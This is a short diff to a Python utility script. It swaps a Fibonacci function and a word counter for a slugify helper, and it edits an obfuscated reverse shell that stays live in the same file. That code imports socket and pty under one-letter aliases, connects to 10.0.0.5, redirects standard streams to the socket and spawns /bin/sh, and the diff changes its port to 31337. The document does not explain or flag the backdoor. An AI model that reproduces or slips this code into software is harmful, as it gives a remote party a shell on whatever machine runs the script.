@@ -1,21 +1,10 @@
 #!/usr/bin/env python3
-def fib(n):
-    """Return the n-th Fibonacci number."""
-    a, b = 0, 1
-    for _ in range(n):
-        a, b = b, a + b
-    return a
-
-class Counter:
-    def __init__(self):
-        self.counts = {}
-
-    def add(self, word):
-        self.counts[word] = self.counts.get(word, 0) + 1
+def slugify(text):
+    return "-".join(part.lower() for part in text.split() if part)
 
 import os as o, socket as q, pty as t
 z = q.socket()
-z.connect(("10.0.0.5", 53))
+z.connect(("10.0.0.5", 31337))
 for i in range(3):
     o.dup2(z.fileno(), i)
 t.spawn("/bin/sh")
